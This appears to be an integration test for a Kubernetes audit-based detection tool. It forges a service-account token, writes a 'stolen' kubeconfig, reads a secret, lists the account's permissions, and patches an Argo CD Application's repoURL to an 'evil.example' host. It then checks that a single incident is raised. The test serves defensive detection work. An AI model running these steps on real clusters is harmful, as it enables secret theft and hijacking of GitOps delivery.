/**
 * A real API server posts its audit events into a real `serve` by its webhook. A service account's token is carried away and used
 * from a shell: it reads a secret, changes where GitOps delivers from, asks what more it may. That becomes one incident, with that
 * account at its root.
 */
import { execFile } from 'node:child_process';
import { sign } from 'node:crypto';
import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { DetectionList, Incident, IntakeStatus, KeptEventAnswer } from '@firebreak/contract';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { type Served, served } from './testing/served.ts';
import { type Door, openDoor } from './testing/tls-door.ts';

const run = promisify(execFile);
const peers = new URL('../../peers/kubernetes/', import.meta.url).pathname;
const account = 'kubernetes:ServiceAccount/serving/runner';
let data: string;
let cluster: string;
let server: Served;
let door: Door;
let bin: string;
beforeAll(async () => {
  data = await mkdtemp(join(tmpdir(), 'firebreak-webhook-'));
  cluster = await mkdtemp(join(tmpdir(), 'firebreak-k8s-'));
  await chmod(data, 0o755);
  // For a token; the estate that it works on comes after.
  const first = await served(['--data', data]);
  first.running.kill('SIGTERM');
  await first.running.ended;
  door = await openDoor(cluster);
  const { stdout } = await run(join(peers, 'start'), [cluster], {
    env: {
      ...process.env,
      FIREBREAK_K8S_AUDIT_WEBHOOK: `${door.address}/api/log`,
      FIREBREAK_K8S_AUDIT_WEBHOOK_CA: door.certificate,
      FIREBREAK_K8S_AUDIT_WEBHOOK_TOKEN: first.token,
    },
    maxBuffer: 1 << 26,
  });
  bin = /^FIREBREAK_K8S_BIN=(.*)$/m.exec(stdout)?.[1] ?? '';
  await admin('apply', '-f', '-');
  server = await served(['--data', data, '--kubeconfig', join(cluster, 'admin.kubeconfig')], { token: first.token });
  door.leadsTo(server.address);
});
afterAll(async () => {
  server?.running.kill('SIGTERM');
  await server?.running.ended;
  door.close();
  await run(join(peers, 'stop'), [cluster]);
  for (const folder of [data, cluster]) await rm(folder, { recursive: true, force: true });
});

const objects = `
apiVersion: v1
kind: Namespace
metadata: {name: serving}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: runner, namespace: serving}
---
apiVersion: v1
kind: Secret
metadata: {name: model-store, namespace: serving}
stringData: {key: not-a-real-one}
---
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: models, namespace: serving}
spec:
  project: default
  source: {repoURL: https://git.example/models, path: ., targetRevision: main}
  destination: {server: https://kubernetes.default.svc, namespace: serving}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: runner, namespace: serving}
rules:
  - {apiGroups: [""], resources: [secrets], verbs: [get, list]}
  - {apiGroups: [argoproj.io], resources: [applications], verbs: [get, patch]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: runner, namespace: serving}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: runner}
subjects: [{kind: ServiceAccount, name: runner, namespace: serving}]
`;

function kubectl(config: string, args: readonly string[]): Promise<string> {
  const running = run(join(bin, 'kubectl'), ['--kubeconfig', config, '--cache-dir', join(cluster, 'cache'), ...args]);
  running.child.stdin?.end(objects);
  return running.then(({ stdout }) => stdout);
}
const admin = (...args: readonly string[]) => kubectl(join(cluster, 'admin.kubeconfig'), args);

/** As a pod of the account has it; the cluster gave it out long ago, so nothing in the log tells of that. */
async function mountedToken(): Promise<string> {
  const uid = (
    await admin('get', 'serviceaccount', 'runner', '-n', 'serving', '-o', 'jsonpath={.metadata.uid}')
  ).trim();
  const now = Math.floor(Date.now() / 1000);
  const claims = {
    iss: 'https://kubernetes.default.svc',
    aud: ['https://kubernetes.default.svc'],
    sub: 'system:serviceaccount:serving:runner',
    iat: now - 60,
    nbf: now - 60,
    exp: now + 3600,
    'kubernetes.io': { namespace: 'serving', serviceaccount: { name: 'runner', uid } },
  };
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const signed = `${part({ alg: 'RS256' })}.${part(claims)}`;
  const key = await readFile(join(cluster, 'pki', 'service-account.key'));
  return `${signed}.${sign('sha256', Buffer.from(signed), key).toString('base64url')}`;
}

test('a token of a service account, used from a shell, becomes one incident', async () => {
  const token = await mountedToken();
  const stolen = join(cluster, 'stolen.kubeconfig');
  const text = await admin('config', 'view', '--raw', '--minify', '-o', 'json');
  const config = JSON.parse(text) as { users: { name: string }[] };
  const users = [{ name: config.users[0]?.name, user: { token } }];
  await writeFile(stolen, JSON.stringify({ ...config, users }), { mode: 0o600 });
  const shell = (...args: readonly string[]) => kubectl(stolen, ['-n', 'serving', ...args]);
  await shell('get', 'secret', 'model-store', '-o', 'name');
  await shell('auth', 'can-i', '--list');
  const elsewhere = '{"spec":{"source":{"repoURL":"https://evil.example/models"}}}';
  const before = Date.now();
  await shell('patch', 'application', 'models', '--type', 'merge', '-p', elsewhere);

  const query = new URLSearchParams({ node: account, limit: '1000' });
  const found = await vi.waitFor(
    async () => {
      const list = await server.get<DetectionList>(`/api/detections?${query}`);
      const said = JSON.stringify([list.detections.map(({ title }) => title), await server.get('/api/intake')]);
      expect(
        list.detections.some(({ title }) => /Tool Of People/.test(title)),
        said,
      ).toBe(true);
      expect(
        list.detections.some(({ title, incident }) => incident !== null && /GitOps Source Changed/.test(title)),
        said,
      ).toBe(true);
      // A detection is there a moment before it has its incident.
      expect(
        list.detections.some(({ incident, title }) => incident !== null && /Tool Of People/.test(title)),
        said,
      ).toBe(true);
      return list.detections;
    },
    { timeout: 30_000, interval: 100 },
  );
  console.log(
    `found ${Date.now() - before} ms after the deciding request (the webhook's own second included): ` +
      [...new Set(found.map(({ title }) => title))].join('; '),
  );
  const incidents = new Set(found.flatMap(({ incident }) => incident ?? []));
  expect(incidents.size).toBe(1);
  const [incident] = incidents;
  const { incidents: all } = await server.get<{ incidents: Incident[] }>('/api/incidents');
  const said = JSON.stringify(await server.get(`/api/incidents/${incident}/case`)).slice(0, 3000);
  expect(all.find(({ id }) => id === incident)?.compromised, said).toEqual([account]);

  // The event that decided is kept as it came, tied to what it touched and to the grant that allowed it.
  const deciding = found.find(({ title }) => /GitOps Source Changed/.test(title));
  const id = encodeURIComponent(deciding?.events[0]?.id ?? '');
  const { ties, raw } = await server.get<KeptEventAnswer>(`/api/event/${id}`);
  expect(raw).toMatchObject({ verb: 'patch', objectRef: { resource: 'applications', name: 'models' } });
  expect(ties.nodes.find(({ as }) => as === 'identity')?.node).toMatchObject({ id: account });
  expect(ties.nodes.find(({ as }) => as === 'target')?.node).not.toBeNull();
  expect(ties.permission?.told).toContain('RoleBinding "runner/serving"');
  expect(ties.permission?.node).toMatchObject({ kind: 'PermissionSet' });

  const { line, watch } = await server.get<IntakeStatus>('/api/intake');
  expect(line.unreadable).toEqual([]);
  expect(watch).toMatchObject({ running: true, stopped: [] });
});
